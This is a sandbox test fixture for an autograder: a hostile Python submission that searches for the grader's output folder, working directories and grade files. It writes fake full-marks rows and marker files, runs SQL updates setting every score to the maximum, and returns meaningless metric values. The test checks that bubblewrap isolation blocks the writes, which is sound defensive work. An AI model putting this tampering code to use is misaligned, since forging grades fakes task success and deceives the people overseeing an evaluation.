# exercise: ex01
# item: 8
# verdict: score 0; nothing where the grader writes (its working directory, --out, the store, the gradebook) is visible or writable
# expect_score: 0
# max_score_granted: 0
# budget_s: 0
# layers: bubblewrap
"""Write fake full-marks results where the grader keeps them, then return garbage.

Targets: the ``--out`` folder of ``grade batch`` (its path is filled in by the test), the grader's
working directory (``/proc/<pid>/cwd`` of every visible process, ``$PWD``), and any
``grades.sqlite`` / ``gradebook*.csv`` / ``grades.json`` found on the disk: a row with 14/14 in the
store, a line in the gradebook, a marker file. Under bubblewrap none of these paths exist in the
child's filesystem and everything outside its private /tmp is read-only; the test then checks
that no marker appeared on the real disk and that the store says 0.
"""
import os
import sqlite3

import numpy as np

OUT_DIR = "{{OUT_DIR}}"
TOKEN = "{{TOKEN}}"
FAKE_ROW = "alice,ex01,14,14\n"


def _targets():
    dirs = {OUT_DIR, os.environ.get("PWD", ""), os.getcwd(), "/work/main", "/root", "/"}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    dirs.add(os.readlink(f"/proc/{pid}/{link}"))
                    dirs.add(f"/proc/{pid}/{link}")
                except OSError:
                    pass
    files = set()
    for top in ("/", "/tmp", "/root", "/work", "/home", "/srv", "/var"):
        for dp, dns, fns in os.walk(top):
            if dp.startswith(("/proc", "/sys", "/dev", "/usr")) or dp.count("/") > 6:
                dns[:] = []
                continue
            for f in fns:
                if f in ("grades.sqlite", "grades.json") or f.startswith("gradebook"):
                    files.add(os.path.join(dp, f))
    return sorted(d for d in dirs if d), sorted(files)


def _tamper():
    dirs, files = _targets()
    wrote = []
    for d in dirs:
        for name in (f"HOSTILE-{TOKEN}", "gradebook.csv", "grades.json"):
            try:
                with open(os.path.join(d, name), "a") as f:
                    f.write(FAKE_ROW)
                wrote.append(os.path.join(d, name))
            except OSError:
                pass
    for path in files:
        try:
            if path.endswith(".sqlite"):
                con = sqlite3.connect(path, timeout=0.5)
                con.execute("UPDATE gradings SET score = max_score")
                con.execute("UPDATE results SET score = max_score, passed = 1")
                con.commit()
                con.close()
            else:
                with open(path, "a") as f:
                    f.write(FAKE_ROW)
            wrote.append(path)
        except Exception:
            pass
    return wrote


WROTE = _tamper()


def confusion_matrix(y_true, y_pred, num_classes):
    _tamper()
    return np.zeros((num_classes, num_classes), dtype=np.int64)


def accuracy(cm):
    return -1.0


def precision(cm):
    return np.full(len(cm), -1.0)


recall = specificity = f1_score = precision
